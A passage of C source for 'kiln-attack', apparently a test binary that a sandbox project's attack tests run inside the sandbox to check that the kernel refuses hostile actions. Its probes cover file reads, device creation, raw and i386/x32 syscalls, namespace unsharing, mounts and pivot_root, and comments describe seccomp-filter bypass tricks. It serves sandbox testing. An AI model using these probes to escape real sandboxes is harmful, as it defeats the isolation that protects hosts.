/* SPDX-License-Identifier: Apache-2.0 */
/*
 * kiln-attack: one multi-call binary of hostile actions for the attack
 * tests (the NN-*.sh scripts in tests/attacks). The tests copy it into a
 * --source dir and run it inside `kiln run` as /workspace/attack; a few
 * subcommands (pty-run, and others as positive controls) also run on the
 * host.
 *
 *   attack [-m MARKER] SUBCOMMAND [ARG]...
 *
 * Every attempt prints one line, "LABEL: ok [detail]" when the attack got
 * what it wanted or "LABEL: ERRNAME (message)" when the kernel refused, so
 * that a test can assert the exact errno the policy promises. -m MARKER
 * creates the file MARKER (content "pwned") whenever an attempt succeeded:
 * a test then checks from the host that the marker was NOT exported.
 *
 * Exit status: 0 the attack (at least one attempt) succeeded, 1 every
 * attempt was refused, 2 usage error, 3 timeout while waiting. Subcommands
 * that only report (ids, stat, ...) exit 0.
 *
 * Deliberately raw: syscalls go through syscall(2) with the x86_64
 * numbers so that neither libc wrappers nor headers decide what reaches
 * the kernel. Keep it generic: the other attack scripts use it too.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>

#include <linux/bpf.h>
#include <linux/perf_event.h>

#ifndef TIOCSTI
#define TIOCSTI 0x5412
#endif
#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif
#ifndef AF_PACKET
#define AF_PACKET 17
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef AF_KEY
#define AF_KEY 15
#endif
#ifndef AF_TIPC
#define AF_TIPC 30
#endif
#ifndef SOCK_PACKET
#define SOCK_PACKET 10
#endif
#ifndef NETLINK_AUDIT
#define NETLINK_AUDIT 9
#endif
#ifndef CLONE_NEWCGROUP
#define CLONE_NEWCGROUP 0x02000000
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif

/* x86_64 numbers newer than some headers. */
#define NR_open_tree	  428
#define NR_move_mount	  429
#define NR_fsopen	  430
#define NR_fsconfig	  431
#define NR_fsmount	  432
#define NR_fspick	  433
#define NR_clone3	  435
#define NR_openat2	  437
#define NR_mount_setattr  442
#define NR_memfd_secret	  447
#define NR_fchmodat2	  452
#define NR_open_tree_attr 467

#define X32_BIT	       0x40000000L
#define TIOCSTI_HIGH   0xffffffff00005412UL
#define TIOCLINUX_HIGH 0xffffffff0000541CUL

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static const char *g_marker;
static int g_succeeded; /* attempts that got what they wanted */
static int g_attempts;	/* attempts made */

/* ---- output ----------------------------------------------------------- */

static void out_raw(const void *buf, size_t len)
{
	const char *p = buf;

	while (len > 0) {
		ssize_t n = write(1, p, len);

		if (n < 0) {
			if (errno == EINTR)
				continue;
			_exit(4);
		}
		p += n;
		len -= (size_t)n;
	}
}

__attribute__((format(printf, 1, 2))) static void say(const char *fmt, ...)
{
	char buf[4096];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n >= sizeof(buf))
		n = (int)sizeof(buf) - 1;
	out_raw(buf, (size_t)n);
}

static const char *errname(int e)
{
	const char *s = strerrorname_np(e);

	return s ? s : "E?";
}

static void plant_marker(void)
{
	int fd;

	if (g_marker == NULL)
		return;
	fd = open(g_marker, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	if (write(fd, "pwned\n", 6) != 6)
		say("marker %s: short write\n", g_marker);
	close(fd);
}

/* Record one attempt: rc >= 0 is success (the attack worked). */
__attribute__((format(printf, 3, 4))) static long result(long rc, int e, const char *fmt, ...)
{
	char label[512];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(label, sizeof(label), fmt, ap);
	va_end(ap);
	g_attempts++;
	if (rc >= 0) {
		g_succeeded++;
		say("%s: ok %ld\n", label, rc);
		plant_marker();
	} else {
		say("%s: %s (%s)\n", label, errname(e), strerror(e));
	}
	return rc;
}

/* Run a syscall-like expression and record it. */
#define TRY(expr, ...)                                                                             \
	({                                                                                         \
		errno = 0;                                                                         \
		long rc_ = (long)(expr);                                                           \
		int e_ = errno;                                                                    \
		result(rc_, e_, __VA_ARGS__);                                                      \
	})

static int finish(void)
{
	return g_succeeded > 0 ? 0 : 1;
}

__attribute__((noreturn, format(printf, 1, 2))) static void usage(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(2);
}

static unsigned long long num(const char *s)
{
	char *end;
	unsigned long long v;

	errno = 0;
	if (s[0] == '-')
		v = (unsigned long long)strtoll(s, &end, 0);
	else
		v = strtoull(s, &end, 0);
	if (errno != 0 || end == s || *end != '\0')
		usage("not a number: %s", s);
	return v;
}

/* Print a buffer, runs of NULs turned into one newline (environ, cmdline). */
static void out_text(const char *buf, size_t n)
{
	char tmp[4096];
	size_t i, k = 0;

	for (i = 0; i < n; i++) {
		if (buf[i] == '\0' && i > 0 && buf[i - 1] == '\0')
			continue;
		tmp[k++] = buf[i] == '\0' ? '\n' : buf[i];
		if (k == sizeof(tmp)) {
			out_raw(tmp, k);
			k = 0;
		}
	}
	if (k)
		out_raw(tmp, k);
	if (n > 0 && buf[n - 1] != '\n' && buf[n - 1] != '\0')
		out_raw("\n", 1);
}

/* Read all of fd (up to max) and print it; returns bytes or -1. */
static long dump_fd(int fd, size_t max)
{
	char buf[65536];
	size_t total = 0;

	while (total < max) {
		ssize_t n = read(fd, buf, sizeof(buf));

		if (n < 0) {
			if (errno == EINTR)
				continue;
			return -1;
		}
		if (n == 0)
			break;
		out_text(buf, (size_t)n);
		total += (size_t)n;
	}
	return (long)total;
}

/* ---- files ------------------------------------------------------------ */

static int cmd_read(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
		long n;

		if (fd < 0) {
			result(-1, errno, "read %s", argv[i]);
			continue;
		}
		say("--- begin %s\n", argv[i]);
		n = dump_fd(fd, 4u << 20);
		say("--- end %s\n", argv[i]);
		result(n, errno, "read %s", argv[i]);
		close(fd);
	}
	return finish();
}

static int open_and_write(const char *label, const char *path, int flags, const char *data)
{
	int fd;
	ssize_t n;

	errno = 0;
	fd = open(path, flags | O_CLOEXEC | O_NOCTTY);
	if (fd < 0)
		return (int)result(-1, errno, "%s %s", label, path);
	n = write(fd, data, strlen(data));
	if (n < 0) {
		int e = errno;

		close(fd);
		say("%s %s: opened, but write failed\n", label, path);
		return (int)result(-1, e, "%s %s", label, path);
	}
	close(fd);
	return (int)result(n, 0, "%s %s", label, path);
}

/* open-write PATH [DATA]; open-rdwr; open-trunc; open-append */
static int cmd_open_write(int argc, char **argv)
{
	const char *data = argc > 2 ? argv[2] : "pwned\n";
	int flags;

	if (argc < 2)
		usage("%s PATH [DATA]", argv[0]);
	if (strcmp(argv[0], "open-rdwr") == 0)
		flags = O_RDWR;
	else if (strcmp(argv[0], "open-trunc") == 0)
		flags = O_WRONLY | O_TRUNC;
	else if (strcmp(argv[0], "open-append") == 0)
		flags = O_WRONLY | O_APPEND;
	else
		flags = O_WRONLY;
	open_and_write(argv[0], argv[1], flags, data);
	return finish();
}

static void print_mode(const char *label, const char *path)
{
	struct stat st;

	if (lstat(path, &st) < 0)
		say("%s %s: mode ? (%s)\n", label, path, errname(errno));
	else
		say("%s %s: mode %04o\n", label, path, (unsigned)(st.st_mode & 07777));
}

/* create PATH [MODE] [DATA]: openat(O_CREAT|O_EXCL) with MODE (default 0644),
 * through the raw syscall so the mode reaches the kernel as given. */
static int cmd_create(int argc, char **argv)
{
	unsigned long mode = argc > 2 ? num(argv[2]) : 0644;
	const char *data = argc > 3 ? argv[3] : "created\n";
	long fd;

	if (argc < 2)
		usage("create PATH [MODE] [DATA]");
	fd = TRY(syscall(SYS_openat, AT_FDCWD, argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC,
			 mode),
		 "create %s %04lo", argv[1], mode);
	if (fd >= 0) {
		if (write((int)fd, data, strlen(data)) < 0)
			say("create %s: write: %s\n", argv[1], errname(errno));
		close((int)fd);
	}
	print_mode("create", argv[1]);
	return finish();
}

/* creat PATH MODE (the old creat(2) syscall) */
static int cmd_creat(int argc, char **argv)
{
	long fd;

	if (argc < 3)
		usage("creat PATH MODE");
	fd = TRY(syscall(SYS_creat, argv[1], (unsigned long)num(argv[2])), "creat %s %s", argv[1],
		 argv[2]);
	if (fd >= 0)
		close((int)fd);
	print_mode("creat", argv[1]);
	return finish();
}

/* open-creat PATH MODE: the old open(2) syscall with O_CREAT */
static int cmd_open_creat(int argc, char **argv)
{
	long fd;

	if (argc < 3)
		usage("open-creat PATH MODE");
	fd = TRY(syscall(SYS_open, argv[1], O_WRONLY | O_CREAT | O_CLOEXEC,
			 (unsigned long)num(argv[2])),
		 "open-creat %s %s", argv[1], argv[2]);
	if (fd >= 0)
		close((int)fd);
	print_mode("open-creat", argv[1]);
	return finish();
}

/* mkdir PATH [MODE] (raw mkdir and mkdirat) */
static int cmd_mkdir(int argc, char **argv)
{
	unsigned long mode = argc > 2 ? num(argv[2]) : 0755;

	if (argc < 2)
		usage("mkdir PATH [MODE]");
	if (strcmp(argv[0], "mkdirat") == 0)
		TRY(syscall(SYS_mkdirat, AT_FDCWD, argv[1], mode), "mkdirat %s %04lo", argv[1],
		    mode);
	else
		TRY(syscall(SYS_mkdir, argv[1], mode), "mkdir %s %04lo", argv[1], mode);
	print_mode(argv[0], argv[1]);
	return finish();
}

/* chmod|fchmod|fchmodat|fchmodat2 PATH MODE [FLAGS] */
static int cmd_chmod(int argc, char **argv)
{
	const char *which = argv[0];
	unsigned long mode;

	if (argc < 3)
		usage("%s PATH MODE", which);
	mode = num(argv[2]);
	if (strcmp(which, "chmod") == 0) {
		TRY(syscall(SYS_chmod, argv[1], mode), "chmod %s %04lo", argv[1], mode);
	} else if (strcmp(which, "fchmod") == 0) {
		int fd = open(argv[1], O_RDONLY | O_CLOEXEC);

		if (fd < 0)
			result(-1, errno, "fchmod %s (open)", argv[1]);
		else
			TRY(syscall(SYS_fchmod, fd, mode), "fchmod %s %04lo", argv[1], mode);
		if (fd >= 0)
			close(fd);
	} else if (strcmp(which, "fchmodat") == 0) {
		TRY(syscall(SYS_fchmodat, AT_FDCWD, argv[1], mode), "fchmodat %s %04lo", argv[1],
		    mode);
	} else {
		unsigned long flags = argc > 3 ? num(argv[3]) : 0;

		TRY(syscall(NR_fchmodat2, AT_FDCWD, argv[1], mode, flags), "fchmodat2 %s %04lo",
		    argv[1], mode);
	}
	print_mode(which, argv[1]);
	return finish();
}

/* mknod|mknodat PATH TYPE [MAJOR MINOR] [PERM]   TYPE: c b p f s */
static int cmd_mknod(int argc, char **argv)
{
	unsigned long type, perm = 0644;
	unsigned int maj = 0, min = 0;

	if (argc < 3)
		usage("%s PATH TYPE(c|b|p|f|s) [MAJOR MINOR] [PERM]", argv[0]);
	switch (argv[2][0]) {
	case 'c': type = S_IFCHR; break;
	case 'b': type = S_IFBLK; break;
	case 'p': type = S_IFIFO; break;
	case 's': type = S_IFSOCK; break;
	case 'f': type = S_IFREG; break;
	default: usage("mknod: type must be c, b, p, f or s");
	}
	if (type == S_IFCHR || type == S_IFBLK) {
		if (argc < 5)
			usage("mknod PATH c|b MAJOR MINOR [PERM]");
		maj = (unsigned)num(argv[3]);
		min = (unsigned)num(argv[4]);
		if (argc > 5)
			perm = num(argv[5]);
	} else if (argc > 3) {
		perm = num(argv[3]);
	}
	if (strcmp(argv[0], "mknodat") == 0)
		TRY(syscall(SYS_mknodat, AT_FDCWD, argv[1], type | perm,
			    (unsigned long)makedev(maj, min)),
		    "mknodat %s %s %u:%u %04lo", argv[1], argv[2], maj, min, perm);
	else
		TRY(syscall(SYS_mknod, argv[1], type | perm, (unsigned long)makedev(maj, min)),
		    "mknod %s %s %u:%u %04lo", argv[1], argv[2], maj, min, perm);
	return finish();
}

static const char *type_name(mode_t m)
{
	switch (m & S_IFMT) {
	case S_IFREG: return "file";
	case S_IFDIR: return "dir";
	case S_IFLNK: return "symlink";
	case S_IFCHR: return "chardev";
	case S_IFBLK: return "blockdev";
	case S_IFIFO: return "fifo";
	case S_IFSOCK: return "socket";
	default: return "unknown";
	}
}

/* stat PATH...: type, mode, owner, device numbers (informational). */
static int cmd_stat(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		struct stat st;

		if (lstat(argv[i], &st) < 0) {
			say("stat %s: %s\n", argv[i], errname(errno));
			continue;
		}
		say("stat %s: %s mode=%04o uid=%u gid=%u rdev=%u:%u size=%lld\n", argv[i],
		    type_name(st.st_mode), (unsigned)(st.st_mode & 07777), (unsigned)st.st_uid,
		    (unsigned)st.st_gid, major(st.st_rdev), minor(st.st_rdev),
		    (long long)st.st_size);
	}
	return 0;
}

/* write-file PATH DATA: create or replace (a plain marker writer). */
static int cmd_write_file(int argc, char **argv)
{
	if (argc < 3)
		usage("write-file PATH DATA");
	open_and_write("write-file", argv[1], O_WRONLY | O_CREAT | O_TRUNC, argv[2]);
	return finish();
}

/* ---- identity --------------------------------------------------------- */

static void status_lines(const char *path, const char *const *keys, size_t nkeys)
{
	char buf[16384];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;
	char *line, *save = NULL;

	if (fd < 0) {
		say("%s: %s\n", path, errname(errno));
		return;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n < 0)
		return;
	buf[n] = '\0';
	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
		for (size_t i = 0; i < nkeys; i++)
			if (strncmp(line, keys[i], strlen(keys[i])) == 0 &&
			    line[strlen(keys[i])] == ':')
				say("%s\n", line);
}

/* ids: real/effective/saved ids, groups, capability sets, no_new_privs,
 * seccomp mode, securebits. key=value lines. */
static int cmd_ids(int argc, char **argv)
{
	static const char *const keys[] = {"Uid",	 "Gid",	    "Groups",	      "CapInh",
					   "CapPrm",	 "CapEff",  "CapBnd",	      "CapAmb",
					   "NoNewPrivs", "Seccomp", "Seccomp_filters"};
	uid_t r, e, s;
	gid_t rg, eg, sg;
	gid_t groups[64];
	int n, bnd = 0;

	(void)argc;
	(void)argv;
	if (getresuid(&r, &e, &s) == 0)
		say("ruid=%u euid=%u suid=%u\n", (unsigned)r, (unsigned)e, (unsigned)s);
	if (getresgid(&rg, &eg, &sg) == 0)
		say("rgid=%u egid=%u sgid=%u\n", (unsigned)rg, (unsigned)eg, (unsigned)sg);
	n = getgroups((int)ARRAY_SIZE(groups), groups);
	say("groups=");
	for (int i = 0; i < n; i++)
		say("%s%u", i ? "," : "", (unsigned)groups[i]);
	say("\n");
	for (int c = 0; c < 64; c++)
		if (prctl(PR_CAPBSET_READ, c, 0, 0, 0) == 1)
			bnd++;
	say("bounding_caps=%d\n", bnd);
	say("no_new_privs=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	say("securebits=0x%x\n", (unsigned)prctl(PR_GET_SECUREBITS, 0, 0, 0, 0));
	say("dumpable=%d\n", prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
	status_lines("/proc/self/status", keys, ARRAY_SIZE(keys));
	return 0;
}

/* ---- raw syscalls ----------------------------------------------------- */

static const struct {
	const char *name;
	long nr;
} sys_table[] = {
	{"read", SYS_read},
	{"write", SYS_write},
	{"open", SYS_open},
	{"close", SYS_close},
	{"ioctl", SYS_ioctl},
	{"socket", SYS_socket},
	{"connect", SYS_connect},
	{"socketpair", SYS_socketpair},
	{"clone", SYS_clone},
	{"fork", SYS_fork},
	{"vfork", SYS_vfork},
	{"execve", SYS_execve},
	{"kill", SYS_kill},
	{"chmod", SYS_chmod},
	{"fchmod", SYS_fchmod},
	{"chown", SYS_chown},
	{"mkdir", SYS_mkdir},
	{"creat", SYS_creat},
	{"mknod", SYS_mknod},
	{"mknodat", SYS_mknodat},
	{"ptrace", SYS_ptrace},
	{"syslog", SYS_syslog},
	{"setuid", SYS_setuid},
	{"setgid", SYS_setgid},
	{"setresuid", SYS_setresuid},
	{"setgroups", SYS_setgroups},
	{"personality", SYS_personality},
	{"chroot", SYS_chroot},
	{"pivot_root", SYS_pivot_root},
	{"mount", SYS_mount},
	{"umount2", SYS_umount2},
	{"swapon", SYS_swapon},
	{"swapoff", SYS_swapoff},
	{"reboot", SYS_reboot},
	{"sethostname", SYS_sethostname},
	{"setdomainname", SYS_setdomainname},
	{"iopl", SYS_iopl},
	{"ioperm", SYS_ioperm},
	{"init_module", SYS_init_module},
	{"delete_module", SYS_delete_module},
	{"finit_module", SYS_finit_module},
	{"quotactl", SYS_quotactl},
	{"acct", SYS_acct},
	{"settimeofday", SYS_settimeofday},
	{"clock_settime", SYS_clock_settime},
	{"clock_adjtime", SYS_clock_adjtime},
	{"adjtimex", SYS_adjtimex},
	{"vhangup", SYS_vhangup},
	{"unshare", SYS_unshare},
	{"setns", SYS_setns},
	{"kexec_load", SYS_kexec_load},
	{"kexec_file_load", SYS_kexec_file_load},
	{"add_key", SYS_add_key},
	{"request_key", SYS_request_key},
	{"keyctl", SYS_keyctl},
	{"bpf", SYS_bpf},
	{"perf_event_open", SYS_perf_event_open},
	{"userfaultfd", SYS_userfaultfd},
	{"fanotify_init", SYS_fanotify_init},
	{"name_to_handle_at", SYS_name_to_handle_at},
	{"open_by_handle_at", SYS_open_by_handle_at},
	{"lookup_dcookie", SYS_lookup_dcookie},
	{"uselib", SYS_uselib},
	{"nfsservctl", SYS_nfsservctl},
	{"_sysctl", SYS__sysctl},
	{"io_uring_setup", 425},
	{"io_uring_enter", 426},
	{"io_uring_register", 427},
	{"open_tree", NR_open_tree},
	{"move_mount", NR_move_mount},
	{"fsopen", NR_fsopen},
	{"fsconfig", NR_fsconfig},
	{"fsmount", NR_fsmount},
	{"fspick", NR_fspick},
	{"pidfd_open", 434},
	{"clone3", NR_clone3},
	{"openat2", NR_openat2},
	{"pidfd_getfd", 438},
	{"mount_setattr", NR_mount_setattr},
	{"quotactl_fd", 443},
	{"memfd_secret", NR_memfd_secret},
	{"fchmodat", SYS_fchmodat},
	{"fchmodat2", NR_fchmodat2},
	{"open_tree_attr", NR_open_tree_attr},
	{"process_vm_readv", SYS_process_vm_readv},
	{"process_vm_writev", SYS_process_vm_writev},
	{"kcmp", SYS_kcmp},
	{"seccomp", SYS_seccomp},
	{"memfd_create", SYS_memfd_create},
	{"mkdirat", SYS_mkdirat},
	{"openat", SYS_openat},
	{"getpid", SYS_getpid},
	{"getuid", SYS_getuid},
	{"uname", SYS_uname},
};

/* Low-memory scratch (below 4 GiB) so that i386 syscalls can take pointers. */
static char *low_mem(void)
{
	static char *p;

	if (p == NULL) {
		p = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
		if (p == MAP_FAILED) {
			perror("mmap MAP_32BIT");
			exit(2);
		}
	}
	return p;
}

/* Syscall argument: a number, "s:TEXT" (pointer to TEXT), "b:SIZE" (pointer
 * to SIZE zero bytes). Pointers live below 4 GiB (for int80 too). */
static unsigned long parse_arg(const char *s, size_t *used)
{
	char *mem = low_mem();

	if (strncmp(s, "s:", 2) == 0) {
		size_t len = strlen(s + 2) + 1;

		if (*used + len > (1 << 16))
			usage("arguments too long");
		memcpy(mem + *used, s + 2, len);
		*used += (len + 15) & ~(size_t)15;
		return (unsigned long)(uintptr_t)(mem + *used - ((len + 15) & ~(size_t)15));
	}
	if (strncmp(s, "b:", 2) == 0) {
		size_t len = (size_t)num(s + 2);
		unsigned long p;

		if (*used + len > (1 << 16))
			usage("buffer too large");
		p = (unsigned long)(uintptr_t)(mem + *used);
		memset(mem + *used, 0, len);
		*used += (len + 15) & ~(size_t)15;
		return p;
	}
	return (unsigned long)num(s);
}

static long resolve_nr(const char *name)
{
	for (size_t i = 0; i < ARRAY_SIZE(sys_table); i++)
		if (strcmp(sys_table[i].name, name) == 0)
			return sys_table[i].nr;
	if (isdigit((unsigned char)name[0]))
		return (long)num(name);
	usage("unknown syscall %s (give a number instead)", name);
}

/* syscall NAME|NR [ARG]...  (up to 6 args, x86_64 ABI) */
static int cmd_syscall(int argc, char **argv)
{
	unsigned long a[6] = {0};
	size_t used = 0;
	long nr;

	if (argc < 2 || argc > 8)
		usage("syscall NAME|NR [ARG]... (ARG: number, s:TEXT, b:SIZE)");
	nr = resolve_nr(argv[1]);
	for (int i = 2; i < argc; i++)
		a[i - 2] = parse_arg(argv[i], &used);
	TRY(syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]), "syscall %s", argv[1]);
	return finish();
}

/* The i386 ABI through int $0x80: eax = nr, ebx ecx edx esi edi. In 64-bit
 * mode the kernel clobbers r8-r11. */
static long int80(unsigned long nr, unsigned long a, unsigned long b, unsigned long c,
		  unsigned long d, unsigned long e)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "r8", "r9", "r10", "r11", "cc");
	return (long)(int)ret;
}

/* int80 NR [ARG]...: i386 syscall. int80-mkdir PATH: i386 mkdir (39). */
static int cmd_int80(int argc, char **argv)
{
	unsigned long a[5] = {0};
	size_t used = 0;
	unsigned long nr;
	long r;

	if (strcmp(argv[0], "int80-mkdir") == 0) {
		if (argc < 2)
			usage("int80-mkdir PATH");
		char tmp[PATH_MAX + 3];

		snprintf(tmp, sizeof(tmp), "s:%s", argv[1]);
		nr = 39;
		a[0] = parse_arg(tmp, &used);
		a[1] = 0755;
	} else {
		if (argc < 2 || argc > 7)
			usage("int80 NR [ARG]...");
		nr = (unsigned long)num(argv[1]);
		for (int i = 2; i < argc; i++)
			a[i - 2] = parse_arg(argv[i], &used);
	}
	say("int80 %lu: calling\n", nr);
	r = int80(nr, a[0], a[1], a[2], a[3], a[4]);
	if (r < 0 && r > -4096)
		result(-1, (int)-r, "int80 %lu", nr);
	else
		result(r, 0, "int80 %lu", nr);
	return finish();
}

/* x32 NR [ARG]...: x86_64 syscall with the x32 bit. x32-mkdir PATH. */
static int cmd_x32(int argc, char **argv)
{
	unsigned long a[6] = {0};
	size_t used = 0;
	unsigned long nr;

	if (strcmp(argv[0], "x32-mkdir") == 0) {
		char tmp[PATH_MAX + 3];

		if (argc < 2)
			usage("x32-mkdir PATH");
		snprintf(tmp, sizeof(tmp), "s:%s", argv[1]);
		nr = 83; /* mkdir: x32 shares the x86_64 number */
		a[0] = parse_arg(tmp, &used);
		a[1] = 0755;
	} else {
		if (argc < 2 || argc > 8)
			usage("x32 NR [ARG]...");
		nr = (unsigned long)num(argv[1]);
		for (int i = 2; i < argc; i++)
			a[i - 2] = parse_arg(argv[i], &used);
	}
	say("x32 %lu: calling\n", nr);
	TRY(syscall((long)(nr | X32_BIT), a[0], a[1], a[2], a[3], a[4], a[5]), "x32 %lu", nr);
	return finish();
}

/* ---- namespaces and clone --------------------------------------------- */

static const struct {
	const char *name;
	unsigned long flag;
} ns_flags[] = {
	{"user", CLONE_NEWUSER},     {"mnt", CLONE_NEWNS},    {"pid", CLONE_NEWPID},
	{"net", CLONE_NEWNET},	     {"ipc", CLONE_NEWIPC},   {"uts", CLONE_NEWUTS},
	{"cgroup", CLONE_NEWCGROUP}, {"time", CLONE_NEWTIME},
};

/* "user,mnt" or a number */
static unsigned long parse_ns(const char *s)
{
	unsigned long f = 0;
	char buf[256], *tok, *save = NULL;

	if (isdigit((unsigned char)s[0]))
		return (unsigned long)num(s);
	snprintf(buf, sizeof(buf), "%s", s);
	for (tok = strtok_r(buf, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
		size_t i;

		for (i = 0; i < ARRAY_SIZE(ns_flags); i++)
			if (strcmp(tok, ns_flags[i].name) == 0)
				break;
		if (i == ARRAY_SIZE(ns_flags))
			usage("unknown namespace %s", tok);
		f |= ns_flags[i].flag;
	}
	return f;
}

/* Raw clone: the child exits at once. Returns the child's pid or -1. */
static long raw_clone(unsigned long flags)
{
	long pid = syscall(SYS_clone, flags | SIGCHLD, NULL, NULL, NULL, 0);

	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return pid;
}

struct clone_args_v0 {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

static long raw_clone3(uint64_t flags)
{
	struct clone_args_v0 ca;
	long pid;

	memset(&ca, 0, sizeof(ca));
	ca.flags = flags;
	ca.exit_signal = SIGCHLD;
	pid = syscall(NR_clone3, &ca, sizeof(ca));
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return pid;
}

/* unshare NS[,NS...]|FLAGS */
static int cmd_unshare(int argc, char **argv)
{
	unsigned long f;

	if (argc < 2)
		usage("unshare NS[,NS]...|FLAGS");
	f = parse_ns(argv[1]);
	TRY(syscall(SYS_unshare, f), "unshare %s", argv[1]);
	return finish();
}

/* clone NS[,NS...]|FLAGS ; clone3 NS|FLAGS (0 = a plain fork) */
static int cmd_clone(int argc, char **argv)
{
	unsigned long f = argc > 1 ? parse_ns(argv[1]) : 0;

	if (strcmp(argv[0], "clone3") == 0)
		TRY(raw_clone3(f), "clone3 %s", argc > 1 ? argv[1] : "0");
	else
		TRY(raw_clone(f), "clone %s", argc > 1 ? argv[1] : "0");
	return finish();
}

/* mount SRC TARGET FSTYPE [FLAGS] [DATA] */
static int cmd_mount(int argc, char **argv)
{
	if (argc < 4)
		usage("mount SRC TARGET FSTYPE [FLAGS] [DATA]");
	TRY(syscall(SYS_mount, argv[1], argv[2], argv[3],
		    argc > 4 ? (unsigned long)num(argv[4]) : 0UL, argc > 5 ? argv[5] : NULL),
	    "mount %s on %s (%s)", argv[1], argv[2], argv[3]);
	return finish();
}

/* ---- the kernel attack surface, one realistic call each ---------------- */

struct mount_attr_v0 {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};

static void k_unshare_user(void)
{
	TRY(syscall(SYS_unshare, CLONE_NEWUSER), "kernel unshare-user");
}
static void k_unshare_all(void)
{
	TRY(syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP | CLONE_NEWPID |
					 CLONE_NEWNET | CLONE_NEWIPC | CLONE_NEWUTS),
	    "kernel unshare-all");
}
static void k_clone_newuser(void)
{
	TRY(raw_clone(CLONE_NEWUSER), "kernel clone-newuser");
}
static void k_clone_newuser_high(void)
{
	/* clone truncates flags to 32 bits: a filter comparing all 64 would
	 * be fooled by a high bit. */
	TRY(raw_clone(CLONE_NEWUSER | (1UL << 40)), "kernel clone-newuser-highbits");
}
static void k_clone_each_ns(void)
{
	for (size_t i = 0; i < ARRAY_SIZE(ns_flags); i++) {
		if (ns_flags[i].flag == CLONE_NEWTIME)
			continue; /* 0x80 is clone's exit-signal byte */
		TRY(raw_clone(ns_flags[i].flag), "kernel clone-new%s", ns_flags[i].name);
	}
}
static void k_clone3_newuser(void)
{
	TRY(raw_clone3(CLONE_NEWUSER), "kernel clone3-newuser");
}
static void k_clone3(void)
{
	TRY(raw_clone3(0), "kernel clone3");
}
static void k_setns(void)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

	TRY(syscall(SYS_setns, fd, 0), "kernel setns");
	if (fd >= 0)
		close(fd);
}
static void k_mount(void)
{
	if (mkdir("/tmp/kiln-atk-mnt", 0755) < 0 && errno != EEXIST)
		say("mkdir /tmp/kiln-atk-mnt: %s\n", errname(errno));
	TRY(syscall(SYS_mount, "none", "/tmp/kiln-atk-mnt", "tmpfs", 0UL, "size=1m"),
	    "kernel mount-tmpfs");
}
static void k_remount_usr(void)
{
	TRY(syscall(SYS_mount, NULL, "/usr", NULL, (unsigned long)(MS_REMOUNT | MS_BIND), NULL),
	    "kernel remount-usr-rw");
}
static void k_umount(void)
{
	TRY(syscall(SYS_umount2, "/usr", MNT_DETACH), "kernel umount-usr");
}
static void k_pivot_root(void)
{
	TRY(syscall(SYS_pivot_root, "/tmp", "/tmp"), "kernel pivot-root");
}
static void k_chroot(void)
{
	TRY(syscall(SYS_chroot, "/tmp"), "kernel chroot");
}
static void k_open_tree(void)
{
	long fd =
		TRY(syscall(NR_open_tree, AT_FDCWD, "/usr", 1UL /* OPEN_TREE_CLONE */ | O_CLOEXEC),
		    "kernel open-tree");
	if (fd >= 0)
		close((int)fd);
}
static void k_fsopen(void)
{
	long fd = TRY(syscall(NR_fsopen, "tmpfs", 0UL), "kernel fsopen");
	if (fd >= 0)
		close((int)fd);
}
static void k_fspick(void)
{
	long fd = TRY(syscall(NR_fspick, AT_FDCWD, "/usr", 0UL), "kernel fspick");
	if (fd >= 0)
		close((int)fd);
}
static void k_fsconfig(void)
{
	TRY(syscall(NR_fsconfig, -1, 6 /* CMD_CREATE */, NULL, NULL, 0), "kernel fsconfig");
}
static void k_fsmount(void)
{
